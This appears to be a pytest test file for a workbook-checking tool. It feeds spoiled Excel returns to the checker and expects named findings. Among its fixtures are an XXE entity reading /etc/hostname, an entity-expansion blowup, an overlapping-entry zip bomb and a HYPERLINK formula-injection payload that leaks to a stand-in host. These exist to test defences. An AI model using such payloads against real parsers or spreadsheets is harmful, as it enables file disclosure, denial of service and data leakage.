"""Hostile and odd content inside a workbook that opens: bad-inputs.md sections B to D.

Each fixture is a good return with one part rewritten (XML surgery, as other programs and
hostile hands would leave it).  Every one must give a named finding at the right cell, or
read exactly as the good file does; conftest.py also reads each with openpyxl and
requires the same answers.
"""

from __future__ import annotations

import random
import re
import string
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from kpibook.cells import col_index
from kpibook.cli import main
from kpibook.entries import Entries
from kpibook.forms import GeneratedForm
from kpibook.forms.fill import write_filled_forms
from kpibook.plan import Plan
from kpibook.plantext import save_yaml
from kpibook.returns.check import ReturnResult, check_return
from kpibook.template import load_template
from kpibook.xlsx_scan import MAX_MARKUP, MAX_PART, read_form_book
from tests.instrument import counted, peak_memory
from tests.test_hostile import repack


@pytest.fixture(scope="module")
def good(
    tmp_path_factory: pytest.TempPathFactory, card_plan: Plan, card_entries: Entries
) -> GeneratedForm:
    forms = write_filled_forms(card_plan, card_entries, tmp_path_factory.mktemp("good"))
    return next(f for f in forms if f.department == "中央公民館")


def check(plan: Plan, path: Path) -> ReturnResult:
    return check_return(plan, path, load_template(plan.layout))


def sheet_part(path: Path, sheet: str) -> str:
    """The zip part holding ``sheet``."""
    with zipfile.ZipFile(path) as z:
        wb = z.read("xl/workbook.xml").decode()
        rels = z.read("xl/_rels/workbook.xml.rels").decode()
    rid = re.search(
        rf'<sheet name="{re.escape(sheet)}" sheetId="\d+"(?: state="\w+")? r:id="(\w+)"', wb
    )
    assert rid, sheet
    target = re.search(
        rf'Id="{rid[1]}" [^>]*Target="([^"]+)"|Target="([^"]+)" [^>]*Id="{rid[1]}"', rels
    )
    assert target
    return "xl/" + (target[1] or target[2])


def input_cell(good: GeneratedForm, suffix: str) -> tuple[str, str, str]:
    """(name, sheet part, A1 ref) of the first input whose name ends with ``suffix``."""
    book = read_form_book(good.path)
    for name, cell in sorted(book.names.items()):
        if name.endswith(suffix) and cell is not None and cell.value is not None:
            assert cell.sheet is not None
            col, n = "", cell.col + 1
            while n:
                n, rem = divmod(n - 1, 26)
                col = chr(65 + rem) + col
            return name, sheet_part(good.path, cell.sheet), f"{col}{cell.row + 1}"
    raise AssertionError(suffix)


def with_cell(good: GeneratedForm, target: Path, suffix: str, new_cell: str) -> tuple[Path, str]:
    """The good return with one input cell's XML replaced (``{r}`` is its reference)."""
    _, part, ref = input_cell(good, suffix)

    def change(name: str, data: bytes) -> bytes:
        if name != part:
            return data
        text = data.decode()
        pattern = rf'<c r="{ref}"[^>]*?(?:/>|>.*?</c>)'
        assert re.search(pattern, text), ref
        return re.sub(pattern, new_cell.replace("{r}", ref), text, count=1).encode()

    return repack(good.path, target, change), ref


BASELINE: set[tuple[str, str | None]] = set()
"""Findings of the good return itself (its published figures include a large change)."""


def found(result: ReturnResult) -> list[tuple[str, str | None]]:
    """The findings the spoiling added to those of the good return."""
    return [(f.code, f.cell) for f in result.findings if (f.code, f.cell) not in BASELINE]


@pytest.fixture(autouse=True)
def _baseline(card_plan: Plan, good: GeneratedForm) -> None:
    if not BASELINE:
        BASELINE.update((f.code, f.cell) for f in check(card_plan, good.path).findings)
        assert {("jump", "E17")} == BASELINE, BASELINE


# -- C: other cell encodings -------------------------------------------------------------


def test_inline_rich_text_number_is_read_as_text_and_converted(
    tmp_path: Path, card_plan: Plan, good: GeneratedForm
) -> None:
    name, _, _ = input_cell(good, ".actual")
    value = read_form_book(good.path).names[name].value  # type: ignore[union-attr]
    assert isinstance(value, int)
    text = f"{value:,}"
    cell = (
        f'<c r="{{r}}" t="inlineStr"><is><r><t>{text[:2]}</t></r>'
        f"<r><rPr><b/></rPr><t>{text[2:]}</t></r><rPh><t>カナ</t></rPh></is></c>"
    )
    path, ref = with_cell(good, tmp_path / "x.xlsx", ".actual", cell)
    result = check(card_plan, path)
    assert found(result) == [("number-normalized", ref)]
    assert result.entries == check(card_plan, good.path).entries


@pytest.mark.parametrize(
    ("cell", "code"),
    [
        ('<c r="{r}" t="e"><v>#DIV/0!</v></c>', "error-value"),
        ('<c r="{r}" t="b"><v>1</v></c>', "not-a-number"),
        ('<c r="{r}" t="d"><v>2024-05-01T00:00:00</v></c>', "not-a-number"),
        ('<c r="{r}"><f>SUM(1,2)</f></c>', "formula-in-input"),
        ("<c r=\"{r}\"><f>'[外部.xlsx]Sheet1'!$A$1</f><v>5</v></c>", "formula-in-input"),
        ('<c r="{r}"><v>1234567890123456</v></c>', "too-many-digits"),
        ('<c r="{r}"><v>1e999</v></c>', "not-a-number"),
    ],
    ids=[
        "error",
        "boolean",
        "iso-date",
        "formula-without-value",
        "linked-formula",
        "sixteen-digits",
        "infinite",
    ],
)
def test_cell_encodings_are_named_at_the_cell(
    cell: str, code: str, tmp_path: Path, card_plan: Plan, good: GeneratedForm
) -> None:
    path, ref = with_cell(good, tmp_path / "x.xlsx", ".actual", cell)
    assert found(check(card_plan, path)) == [(code, ref)]


def test_cells_without_references_are_placed_in_order(
    tmp_path: Path, card_plan: Plan, good: GeneratedForm
) -> None:
    """A writer may leave out ``r=`` when a cell follows the one before it."""
    _, part, _ = input_cell(good, ".actual")

    def change(name: str, data: bytes) -> bytes:
        if name != part:
            return data
        text = data.decode()

        def drop(row: re.Match[str]) -> str:
            cols: list[int] = []

            def one(c: re.Match[str]) -> str:
                col = col_index(c[1])
                keep = not cols or cols[-1] != col - 1
                cols.append(col)
                return c[0] if keep else c[0].replace(f' r="{c[1]}{c[2]}"', "", 1)

            return re.sub(r'<c r="([A-Z]+)(\d+)"', one, row[0])

        return re.sub(r"<row [^>]*>.*?</row>", drop, text, flags=re.S).encode()

    path = repack(good.path, tmp_path / "x.xlsx", change)
    assert b'<c s="' in zipfile.ZipFile(path).read(part) or b"<c t=" in zipfile.ZipFile(path).read(
        part
    )
    assert check(card_plan, path).entries == check(card_plan, good.path).entries


def test_1904_date_system_reads_numbers_unchanged_and_dates_from_1904(
    tmp_path: Path, card_plan: Plan, good: GeneratedForm
) -> None:
    _, part, ref = input_cell(good, ".actual")

    def change(name: str, data: bytes) -> bytes:
        text = data.decode()
        if name == "xl/workbook.xml":
            text = re.sub(r"<workbookPr( [^>]*)?/>", r'<workbookPr date1904="1"\1/>', text)
            assert 'date1904="1"' in text
        elif name == "xl/styles.xml":
            m = re.search(r'<cellXfs count="(\d+)">', text)
            assert m
            text = text.replace(m[0], f'<cellXfs count="{int(m[1]) + 1}">').replace(
                "</cellXfs>", '<xf numFmtId="14" fontId="0" fillId="0" borderId="0"/></cellXfs>'
            )
        elif name == part:
            xfs = re.search(
                r'<cellXfs count="(\d+)">',
                zipfile.ZipFile(good.path).read("xl/styles.xml").decode(),
            )
            assert xfs
            text = re.sub(
                rf'<c r="{ref}"[^>]*?(?:/>|>.*?</c>)',
                f'<c r="{ref}" s="{xfs[1]}"><v>1</v></c>',
                text,
                count=1,
            )
        return text.encode()

    path = repack(good.path, tmp_path / "x.xlsx", change)
    result = check(card_plan, path)
    assert found(result) == [("not-a-number", ref)]  # a date is not a count
    assert "1904-01-02" in result.findings[0].message_en


# -- B: hostile content ------------------------------------------------------------------


@pytest.mark.slow
def test_huge_declared_dimension_and_far_cell(
    tmp_path: Path, card_plan: Plan, good: GeneratedForm, monkeypatch: pytest.MonkeyPatch
) -> None:
    _, part, _ = input_cell(good, ".actual")

    def change(name: str, data: bytes) -> bytes:
        if name != part:
            return data
        text = re.sub(
            r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD1048576"/>', data.decode()
        )
        return text.replace(
            "</sheetData>", '<row r="1048576"><c r="XFD1048576" s="0"/></row></sheetData>'
        ).encode()

    path = repack(good.path, tmp_path / "x.xlsx", change)
    result = check(card_plan, path)
    assert found(result) == []
    assert result.entries == check(card_plan, good.path).entries
    # Nothing is padded to a million rows: kpibook's check (without openpyxl beside it,
    # which does pad) needs no more memory than for the good file.  A million rows of
    # anything, even one 8-byte pointer each, would be 8 MiB more.
    with monkeypatch.context() as m:
        m.setattr("kpibook.returns.check.read_form_book", read_form_book)
        _, usual = peak_memory(lambda: check(card_plan, good.path))
        _, spoiled = peak_memory(lambda: check(card_plan, path))
    assert spoiled < usual + 4 * 1024 * 1024, (usual, spoiled)


def test_text_over_excel_cell_limit_is_named(
    tmp_path: Path, card_plan: Plan, good: GeneratedForm
) -> None:
    cell = '<c r="{r}" t="inlineStr"><is><t>' + "あ" * 40_000 + "</t></is></c>"
    path, ref = with_cell(good, tmp_path / "x.xlsx", ".activity_report", cell)
    assert found(check(card_plan, path)) == [("text-too-long", ref)]


def test_control_characters_stored_as_escapes_are_named(
    tmp_path: Path, card_plan: Plan, good: GeneratedForm
) -> None:
    cell = '<c r="{r}" t="inlineStr"><is><t>講座を_x0016_実施した</t></is></c>'
    path, ref = with_cell(good, tmp_path / "x.xlsx", ".activity_report", cell)
    result = check(card_plan, path)
    assert found(result) == [("illegal-character", ref)]
    assert "U+0016" in result.findings[0].message_en


@pytest.mark.slow
def test_huge_token_is_parsed_once_within_bounds(
    tmp_path: Path, card_plan: Plan, good: GeneratedForm
) -> None:
    """A comment of millions of characters: the slow case of expat before 2.6 when it is
    fed in small pieces (87 s for 40 MB through openpyxl).  Incompressible, so pre-flight
    lets it through; it is parsed once, whole; above MAX_PART it is refused unread."""
    _, part, _ = input_cell(good, ".actual")
    rng = random.Random(6)
    noise = "".join(rng.choices(string.ascii_letters, k=1 << 20))

    def spoil(megabytes: int) -> Path:
        def change(name: str, data: bytes) -> bytes:
            if name != part:
                return data
            text = data.decode()
            return text.replace("<sheetData>", f"<!--{noise * megabytes}--><sheetData>", 1).encode()

        return repack(good.path, tmp_path / f"token{megabytes}.xlsx", change)

    token = spoil(12)
    with counted() as work:
        read_form_book(token)  # kpibook's reader alone, without openpyxl beside it
    # Parsed once, whole: the part goes to expat in one piece, never in the small pieces
    # that make expat's large-token case slow.
    assert work.pieces_over(1 << 20) == [zipfile.ZipFile(token).getinfo(part).file_size]
    assert found(check(card_plan, token)) == []
    too_big = spoil(MAX_PART // (1 << 20) + 1)
    with counted() as work:
        assert found(check(card_plan, too_big)) == [("xml-refused", None)]
    # refused from its declared size: pre-flight streams it through its checksum, in
    # bounded pieces, but no parser is ever given it
    assert work.pieces_over(1 << 20) == []


def test_part_with_too_many_tags_is_refused_unparsed(
    tmp_path: Path, card_plan: Plan, good: GeneratedForm
) -> None:
    """Half a million tiny elements would make an element tree of hundreds of MiB from a
    few MB of XML: the tags are counted on the bytes and the part is refused unparsed."""
    _, part, _ = input_cell(good, ".actual")
    rng = random.Random(7)
    filler = "".join(f"<!--{c}-->" for c in rng.choices(string.ascii_letters, k=MAX_MARKUP))

    def change(name: str, data: bytes) -> bytes:
        if name != part:
            return data
        return data.decode().replace("<sheetData>", filler + "<sheetData>", 1).encode()

    result = check(card_plan, repack(good.path, tmp_path / "tags.xlsx", change))
    assert found(result) == [("xml-refused", None)]
    assert "XML tags" in result.findings[0].message_en


def test_part_not_in_utf8_is_unreadable_not_guessed(
    tmp_path: Path, card_plan: Plan, good: GeneratedForm
) -> None:
    """Excel and LibreOffice write UTF-8; a part in another encoding (where a DTD could
    hide from a byte check) is not read."""

    def change(name: str, data: bytes) -> bytes:
        if name != "xl/sharedStrings.xml":
            return data
        text = data.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"', 1)
        return text.encode("utf-16")

    result = check(card_plan, repack(good.path, tmp_path / "utf16.xlsx", change))
    assert found(result) == [("not-a-workbook", None)]
    assert "UTF-8" in result.findings[0].message_en


def test_external_link_part_is_reported_and_never_read(
    tmp_path: Path, card_plan: Plan, good: GeneratedForm
) -> None:
    link = (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
        ' r:id="rId1"/></externalLink>'
    )

    def change(name: str, data: bytes) -> bytes:
        if name == "xl/_rels/workbook.xml.rels":
            return data.replace(
                b"</Relationships>",
                b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/'
                b'officeDocument/2006/relationships/externalLink" '
                b'Target="externalLinks/externalLink1.xml"/></Relationships>',
            )
        return data

    path = repack(good.path, tmp_path / "x.xlsx", change)
    with zipfile.ZipFile(path, "a") as z:
        z.writestr("xl/externalLinks/externalLink1.xml", link)
    result = check(card_plan, path)
    assert [code for code, _ in found(result)] == ["external-link"]
    assert result.ok  # a warning: the values are the department's own
    assert result.entries == check(card_plan, good.path).entries


def test_macros_are_reported_and_never_run(
    tmp_path: Path, card_plan: Plan, good: GeneratedForm
) -> None:
    path = repack(good.path, tmp_path / "x.xlsm", lambda name, data: data)
    with zipfile.ZipFile(path, "a") as z:
        z.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 not run")
    result = check(card_plan, path)
    assert [code for code, _ in found(result)] == ["macros"]
    assert result.entries == check(card_plan, good.path).entries


# -- D: structure drift ------------------------------------------------------------------


def test_deleted_sheet_leaves_ref_error_names(
    tmp_path: Path, card_plan: Plan, good: GeneratedForm
) -> None:
    name, _, _ = input_cell(good, ".actual")

    def change(part: str, data: bytes) -> bytes:
        if part != "xl/workbook.xml":
            return data
        text = data.decode()
        new = re.sub(
            rf'(<definedName name="{re.escape(name)}">)[^<]*', r"\1#REF!$M$8", text, count=1
        )
        assert new != text
        return new.encode()

    path = repack(good.path, tmp_path / "x.xlsx", change)
    assert [code for code, _ in found(check(card_plan, path))] == ["name-missing"]


def test_rows_inserted_are_caught_by_the_labels(
    tmp_path: Path, card_plan: Plan, good: GeneratedForm
) -> None:
    import openpyxl

    wb = openpyxl.load_workbook(good.path)
    cell = read_form_book(good.path).names[input_cell(good, ".actual")[0]]
    assert cell is not None
    ws = wb[cell.sheet or ""]
    ws.insert_rows(4)  # openpyxl, like a careless tool, leaves the names where they were
    wb.save(tmp_path / "x.xlsx")
    result = check(card_plan, tmp_path / "x.xlsx")
    assert not result.ok
    assert "prefilled-changed" in {f.code for f in result.findings}


# -- A: lock files in the returns folder -------------------------------------------------


def test_lock_files_in_the_folder_are_reported_not_read(
    tmp_path: Path, card_plan: Plan, good: GeneratedForm
) -> None:
    folder = tmp_path / "returns"
    folder.mkdir()
    (folder / good.path.name).write_bytes(good.path.read_bytes())
    (folder / f"~${good.path.name[2:]}").write_bytes(b"\x0bkpibook dev" + b"\x00" * 153)
    (folder / f".~lock.{good.path.name}#").write_text("kpibook dev,host,/tmp,2026;")
    save_yaml(card_plan, tmp_path / "plan.yaml")
    result = CliRunner().invoke(main, ["check", "-p", str(tmp_path / "plan.yaml"), str(folder)])
    assert result.exit_code == 0, result.output
    assert result.stderr.count("lock file, skipped") == 2
    assert "開かれたままです" in result.stderr
    assert "1 " in result.stdout or good.path.name in result.stdout


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE sst [<!ENTITY a "' + "x" * 100_000 + '">]>',  # quadratic blowup
        '<!DOCTYPE sst [<!ENTITY e SYSTEM "file:///etc/hostname">]>',  # XXE
    ],
    ids=["quadratic-blowup", "xxe"],
)
def test_entity_declarations_are_refused_unread(
    doctype: str, tmp_path: Path, card_plan: Plan, good: GeneratedForm
) -> None:
    def change(name: str, data: bytes) -> bytes:
        if name != "xl/sharedStrings.xml":
            return data
        declaration, body = data.decode().split("?>", 1)
        entity = "&a;" * 20_000 if "ENTITY a" in doctype else "&e;"
        return f"{declaration}?>{doctype}{body.replace('<t>', '<t>' + entity, 1)}".encode()

    path = repack(good.path, tmp_path / "x.xlsx", change)
    assert found(check(card_plan, path)) == [("xml-refused", None)]


def test_overlapping_entries_bomb_is_refused_by_declared_total(
    tmp_path: Path, card_plan: Plan, good: GeneratedForm
) -> None:
    """Many directory entries sharing one compressed body (the construction that
    CPython before 3.11.8 does not detect): the declared sizes add up, so it is refused
    from the directory alone, whatever the compression ratio."""
    rng = random.Random(7)
    body = "".join(rng.choices(string.ascii_letters, k=4 << 20)).encode()  # ratio < 2
    path = repack(good.path, tmp_path / "x.xlsx", lambda name, data: data)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/media/a0000.bin", body)
    data = bytearray(path.read_bytes())
    end = data.rindex(b"PK\x05\x06")
    cd_size = int.from_bytes(data[end + 12 : end + 16], "little")
    cd_start = int.from_bytes(data[end + 16 : end + 20], "little")
    records = bytes(data[cd_start : cd_start + cd_size])
    last = records.rindex(b"PK\x01\x02")
    entry = records[last:]
    copies = b"".join(entry.replace(b"a0000", f"a{n:04d}".encode()) for n in range(1, 100))
    count = int.from_bytes(data[end + 10 : end + 12], "little") + 99
    tail = bytearray(data[end:])
    tail[8:10] = tail[10:12] = count.to_bytes(2, "little")
    tail[12:16] = (cd_size + len(copies)).to_bytes(4, "little")
    path.write_bytes(bytes(data[: cd_start + cd_size]) + copies + bytes(tail))
    assert len(zipfile.ZipFile(path).infolist()) > 100  # 400 MB declared, 4 MB on disk
    assert found(check(card_plan, path)) == [("zip-bomb", None)]


def test_text_that_looks_like_a_formula_stays_text_in_the_master(
    tmp_path: Path, card_plan: Plan, good: GeneratedForm
) -> None:
    import openpyxl

    from kpibook.master import write_master
    from kpibook.merge import merge

    payload = '=HYPERLINK("http://example.invalid/?leak","詳細")'
    cell = f'<c r="{{r}}" t="inlineStr"><is><t>{payload.replace(chr(34), "&quot;")}</t></is></c>'
    path, _ = with_cell(good, tmp_path / "x.xlsx", ".activity_report", cell)
    report, entries = merge(card_plan, [path])
    assert any(e.activity_report == payload for e in entries.entries)
    write_master(card_plan, report, entries, tmp_path / "master.xlsx")
    wb = openpyxl.load_workbook(tmp_path / "master.xlsx")
    hits = [
        c
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str) and "HYPERLINK" in c.value
    ]
    assert hits, "the text is in the master"
    assert all(c.data_type == "s" for c in hits)  # text, never a live formula


@pytest.mark.parametrize(
    "payload",
    ["<r>壊れた書式</r>", "<r><t>a</t></r><r><rPr><b/></rPr><t>b</t></r>"],
)
def test_text_shaped_like_xml_runs_stays_text_in_the_master(
    tmp_path: Path, card_plan: Plan, good: GeneratedForm, payload: str
) -> None:
    """xlsxwriter writes a text that starts with <r> and ends with </r> into the file as
    raw XML (its own rich-text form): typed by a department, it broke the master (or
    became other text). The master holds it as typed."""
    import openpyxl

    from kpibook.master import write_master
    from kpibook.merge import merge

    escaped = payload.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    cell = f'<c r="{{r}}" t="inlineStr"><is><t>{escaped}</t></is></c>'
    path, _ = with_cell(good, tmp_path / "x.xlsx", ".activity_report", cell)
    report, entries = merge(card_plan, [path])
    assert any(e.activity_report == payload for e in entries.entries)
    master = tmp_path / "master.xlsx"
    write_master(card_plan, report, entries, master)
    wb = openpyxl.load_workbook(master)  # a well-formed workbook
    found = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert payload in found
